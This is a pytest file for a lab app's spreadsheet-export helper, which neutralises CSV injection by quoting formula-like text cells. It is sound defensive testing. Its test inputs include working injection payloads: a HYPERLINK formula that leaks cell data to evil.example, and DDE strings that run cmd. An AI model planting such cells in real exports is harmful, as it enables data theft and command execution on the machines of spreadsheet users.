"""Spreadsheet safety (OWASP CSV injection): formula-like text cells are quoted, numbers are not, and
every CSV/XLSX writer in labapp goes through the one helper."""

from __future__ import annotations

import csv
import io
import math
import re
from pathlib import Path

import pandas as pd
import pytest

from labapp.core.spreadsheet import FORMULA_STARTS, neutralise, neutralise_frame, neutralise_row

LABAPP = Path(__file__).resolve().parents[2] / "labapp"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("=", "'="),
    ],
)
def test_formula_like_text_gets_a_leading_quote(cell, written):
    assert neutralise(cell) == written


@pytest.mark.parametrize(
    "cell", ["BM26-0001", "Ni 231.604", "< 0.01", "", "ICP 2026-03-17", "a=b", "'=already quoted"]
)
def test_ordinary_text_is_unchanged(cell):
    assert neutralise(cell) is cell


@pytest.mark.parametrize("cell", ["-5", "+5", "-0.012", "+1.5e-3", "-.5", "-12.", "-3E+2"])
def test_a_text_that_is_only_a_plain_number_is_left_as_that_number(cell):
    assert neutralise(cell) == cell


@pytest.mark.parametrize("value", [-5, -2.5, 0, 1e-3, float("nan"), None, True])
def test_numbers_and_empty_cells_are_never_touched(value):
    out = neutralise(value)
    assert out is value or (isinstance(value, float) and math.isnan(out))


def test_every_listed_start_is_neutralised():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    for start in FORMULA_STARTS:
        assert neutralise(start + "cmd|x").startswith("'")


def test_a_frame_keeps_its_numbers_and_quotes_its_text():
    frame = pd.DataFrame({"sample_label": ["=1+1", "-5", "ok", None], "value": [-1.5, 2.0, -3.0, math.nan]})
    out = neutralise_frame(frame)
    assert out["sample_label"].tolist()[:3] == ["'=1+1", "-5", "ok"] and out["sample_label"].isna().iloc[3]
    assert out["value"].dtype == frame["value"].dtype and out["value"].iloc[0] == -1.5
    assert frame["sample_label"].iloc[0] == "=1+1"  # the caller's frame is not changed
    text = out.to_csv(index=False, lineterminator="\n")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'=1+1", "-1.5"] and rows[2] == ["-5", "2.0"]


def test_a_row_keeps_its_keys_and_numbers():
    assert neutralise_row({"lot": "+cmd|x", "value": -2.5, "U": None}) == {
        "lot": "'+cmd|x",
        "value": -2.5,
        "U": None,
    }


_WRITERS = re.compile(r"\.to_csv\(|csv\.(Dict)?[wW]riter\(|\.to_excel\(|Workbook\(|xlsxwriter")


def test_every_csv_or_xlsx_writer_in_labapp_uses_the_helper():
    """A new export that forgets the rule fails here: name the helper in the same module."""
    sources = {path: path.read_text(encoding="utf-8") for path in LABAPP.rglob("*.py")}
    writers = [path for path, text in sources.items() if _WRITERS.search(text)]
    assert {p.name for p in writers} >= {"parse.py", "results.py"}
    forgetful = [str(p.relative_to(LABAPP)) for p in writers if "neutralise" not in sources[p]]
    assert forgetful == []
